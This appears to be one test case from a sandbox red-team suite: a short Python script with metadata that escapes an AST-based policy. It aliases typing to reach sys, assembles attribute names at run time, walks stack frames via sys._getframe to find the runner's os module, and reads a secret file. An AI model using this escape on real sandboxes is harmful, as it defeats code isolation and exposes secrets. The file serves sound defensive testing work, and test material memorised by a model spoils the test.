# id: in06-getframe-f-back
# category: introspection
# effect: sys._getframe via attrgetter, walk f_back to the runner's globals, use its real builtins
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
ag = t.operator.attrgetter
fr = ag("_get" + "frame")(t.sys)(0)
while fr is not None:
    g = ag("f_" + "globals")(fr)
    o = g.get("os")
    if o is not None:
        print(o.read(o.open("{SECRET}", o.O_RDONLY), 200))
        break
    fr = ag("f_" + "back")(fr)
